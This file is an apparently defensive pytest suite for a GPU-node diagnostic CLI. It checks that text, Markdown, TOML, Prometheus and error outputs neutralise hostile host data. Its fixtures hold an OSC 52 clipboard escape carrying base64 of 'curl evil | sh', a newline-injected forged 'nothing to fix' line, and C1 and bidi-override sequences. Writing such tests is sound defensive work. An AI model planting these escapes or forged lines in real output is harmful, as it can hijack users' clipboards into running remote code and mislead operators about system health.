"""Terminal escapes and forged lines: host data holding ``ESC ] 52`` (sets the clipboard), C1 controls,
bidi overrides or newlines reaches every text, Markdown, TOML and terminal output inert.
"""

from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from doctor import cli
from doctor.textsafe import REPLACEMENT, clean
from reports.text import render_text
from tests.helpers import SICK

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # base64 of "curl evil | sh"
FORGE = "\nFORGED: 0 critical, nothing to fix\n"
C1_BIDI = "\x9b31m\u202eevil\u2066"
#: what no text output may hold: C0 controls but TAB/LF, DEL, C1, bidi overrides and isolates
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _inert(text: str, where: str) -> None:
    assert not BAD.search(text), f"control character in {where}: {BAD.search(text)!r}"
    assert not any(line.startswith("FORGED") for line in text.splitlines()), f"forged line in {where}"


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sick fixture with escapes in its hostname, a process argv and status, and GPU product names."""
    if not SICK.exists():
        pytest.skip("sick fixture not generated")
    dest = tmp_path_factory.mktemp("escapes") / "node"
    shutil.copytree(SICK, dest, symlinks=True)
    for rel in ("etc/hostname", "proc/sys/kernel/hostname"):
        (dest / rel).write_text(f"gpu-node-13{OSC52}\n")
    proc = dest / "proc/4242"
    (proc / "cmdline").write_bytes(proc.joinpath("cmdline").read_bytes()
                                   + f"--served-model-name=m{OSC52}{FORGE}\0".encode())
    status = proc.joinpath("status").read_text().replace("Name:\tpython3", f"Name:\tpy{OSC52}")
    (proc / "status").write_text(status)
    xml = dest / "commands/nvidia-smi_-q_-x"  # XML 1.0 forbids C0 controls, not C1 or bidi characters
    xml.write_text(xml.read_text().replace("NVIDIA H100 80GB HBM3", f"NVIDIA H100 {C1_BIDI}"))
    return dest


def _poison(value: str) -> str:
    return f"{value}{OSC52}{C1_BIDI}{FORGE}"


@pytest.fixture(scope="module")
def hostile(node: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A saved result whose hostname, NIC and GPU names, subjects, titles and fixes carry escapes."""
    out = tmp_path_factory.mktemp("hostile-esc") / "r.json"
    cli.main(["check", str(node), "--format", "json", "-o", str(out)])
    data: dict[str, Any] = json.loads(out.read_text())
    data["source"]["hostname"] = _poison("gpu-node-13")
    data["inventory"]["host"]["hostname"] = _poison("gpu-node-13")
    for nic in data["inventory"].get("nics") or []:
        for key in ("name", "netdev", "ifname", "device"):
            if isinstance(nic.get(key), str):
                nic[key] = _poison(nic[key])
    for gpu in data["inventory"].get("gpus") or []:
        gpu["name"] = _poison(str(gpu.get("name")))
    for f in data["findings"]:
        f["subject"] = _poison(f["subject"])
        f["title"] = _poison(f["title"])
        f["detail"] = _poison(f["detail"])
        f["evidence"] = [*f["evidence"], {"source": _poison("src"), "value": _poison("val")}]
        f["fix"]["runtime"] = [*f["fix"]["runtime"], _poison("echo fix")]
        f["fix"]["notes"] = _poison("note")
    out.write_text(json.dumps(data))
    return out


def test_clean_neutralises_every_control_kind() -> None:
    assert clean(OSC52) == f"{REPLACEMENT}]52;c;Y3VybCBldmlsIHwgc2g={REPLACEMENT}"
    assert "\n" not in clean("a\nb\rc") and clean("a\nb", multiline=True) == "a\nb"
    assert not BAD.search(clean(C1_BIDI + "\x7f\u2028\ufeff"))
    assert clean("NVIDIA H100 80GB HBM3 — ok\t1") == "NVIDIA H100 80GB HBM3 — ok\t1"


def test_check_text_header_and_findings(node: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "c.txt"
    cli.main(["check", str(node), "--verbose", "-o", str(out)])
    text = out.read_text()
    assert f"gpu-node-13{REPLACEMENT}]52;c;" in text  # the name is still shown, inert
    _inert(text, "check text")


def test_terminal_colours_are_the_only_escapes(hostile: Path) -> None:
    from doctor.result_io import load_result

    text = render_text(load_result(str(hostile)), verbose=True, colour=True)
    assert "\x1b[" in text  # colour is on
    _inert(re.sub(r"\x1b\[[0-9;]*m", "", text), "coloured terminal output")


@pytest.mark.parametrize("source", ["node", "hostile"])
def test_markdown_report(node: Path, hostile: Path, source: str, tmp_path: Path,
                         capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "r.md"
    args = ["report", str(node)] if source == "node" else ["report", "--from-json", str(hostile)]
    cli.main([*args, "-o", str(out)])
    capsys.readouterr()
    _inert(out.read_text(), f"Markdown report of {source}")


def test_prometheus(hostile: Path, tmp_path: Path) -> None:
    from doctor.result_io import load_result
    from reports.prometheus import render_prometheus

    text = render_prometheus(load_result(str(hostile)))
    assert f'subject="{REPLACEMENT}' not in text and f"{REPLACEMENT}]52;c;" in text  # subjects shown, inert
    _inert(text, "Prometheus text")


def test_diff_text(node: Path, hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for before, after in ((str(SICK), str(node)), (str(node), str(hostile))):
        cli.main(["diff", before, after, "-v", "--cross-host"])
        out, _err = capsys.readouterr()
        assert "Findings:" in out
        _inert(out, f"diff {before} {after}")


def test_fleet_text(node: Path, hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cli.main(["fleet", str(SICK), str(node), str(hostile), "-j", "1", "-q"])
    out, _err = capsys.readouterr()
    assert "gnd fleet: 3 sources" in out
    _inert(out, "fleet text")


def test_baseline_toml(node: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    if sys.version_info < (3, 11):
        pytest.importorskip("tomli")
    from doctor.parsers.toml_io import loads

    out = tmp_path / "b.toml"
    assert cli.main(["baseline", str(node), "-o", str(out)]) == 0
    capsys.readouterr()
    text = out.read_text()
    _inert(text, "baseline TOML")
    data = loads(text, str(out))
    assert data["gpus"]["count"] == 8
    assert "FORGED" not in json.dumps(data)


def test_error_line_is_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / f"r{OSC52}.json"
    bad.write_text("{not json")
    assert cli.main(["report", "--from-json", str(bad), "-o", str(tmp_path / "r.md")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("gnd: error: ") and err.count("\n") == 1
    _inert(err, "error line")
